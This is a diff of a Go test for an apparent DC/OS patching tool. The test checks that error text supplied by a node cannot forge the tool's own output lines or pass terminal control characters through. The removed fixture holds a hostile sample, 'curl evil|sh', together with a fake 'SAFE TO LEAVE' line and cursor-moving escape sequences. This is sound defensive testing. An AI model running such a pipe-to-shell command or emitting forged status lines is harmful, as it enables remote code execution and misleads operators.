@@ -9,45 +9,25 @@ import (
 
 	"github.com/dcos-patch/dcos-patch/advice"
 	"github.com/dcos-patch/dcos-patch/controller"
+	"github.com/dcos-patch/dcos-patch/internal/forgery"
 	"github.com/dcos-patch/dcos-patch/node"
 	"github.com/dcos-patch/dcos-patch/patcher"
 	"github.com/dcos-patch/dcos-patch/plan"
 	"github.com/dcos-patch/dcos-patch/render"
 )
 
-// forged is what a hostile node says: the end of our own output, with a command
-// of its own, and sequences that move a terminal's cursor.
-const forged = "x\n  next    1 curl evil|sh\r\n  SAFE TO LEAVE: yes. all is well\n  state   forged\x1b[2J\u009b2J"
-
-// onlyOurs fails where a line begins as one of ours does and goes on as a node
-// wanted, or where a control character is left.
-func onlyOurs(t *testing.T, where, text string) {
-	t.Helper()
-	for line := range strings.Lines(text) {
-		line = strings.TrimSuffix(line, "\n")
-		for _, mark := range []string{"next    1 curl", "SAFE TO LEAVE: yes. all", "state   forged"} {
-			if strings.HasPrefix(strings.TrimLeft(line, " "), mark) {
-				t.Errorf("%s: a node has forged the line %q", where, line)
-			}
-		}
-		if at := strings.IndexFunc(line, func(r rune) bool { return r < ' ' || r >= 0x7f && r < 0xa0 }); at >= 0 {
-			t.Errorf("%s: a control character in %q", where, line)
-		}
-	}
-}
-
 func TestANodeForgesNoLineOfAnError(t *testing.T) {
 	for name, err := range map[string]error{
-		"a plain error": errors.New("m1: " + forged),
-		"a lock":        &patcher.LockedError{Node: "m1", Holder: node.LockHolder{Run: forged, Owner: forged}},
-		"a takeover":    &patcher.OvertakenError{Node: "m1", Run: forged},
-		"a refusal":     plan.Refuse(plan.Block{Node: "a1", What: forged, Observed: forged, Want: forged, Next: advice.Run("check", "a1")}),
-		"several":       errors.Join(errors.New("a1: "+forged), errors.New("a2: "+forged)),
+		"a plain error": errors.New("m1: " + forgery.Text),
+		"a lock":        &patcher.LockedError{Node: "m1", Holder: node.LockHolder{Run: forgery.Text, Owner: forgery.Text}},
+		"a takeover":    &patcher.OvertakenError{Node: "m1", Run: forgery.Text},
+		"a refusal":     plan.Refuse(plan.Block{Node: "a1", What: forgery.Text, Observed: forgery.Text, Want: forgery.Text, Next: advice.Run("check", "a1")}),
+		"several":       errors.Join(errors.New("a1: "+forgery.Text), errors.New("a2: "+forgery.Text)),
 	} {
 		var out strings.Builder
 		(&app{}).explain(&out, err)
 		(&app{}).tellOnward(&out, err, nil)
-		onlyOurs(t, name, out.String())
+		forgery.OnlyOurs(t, name, out.String())
 	}
 }
 
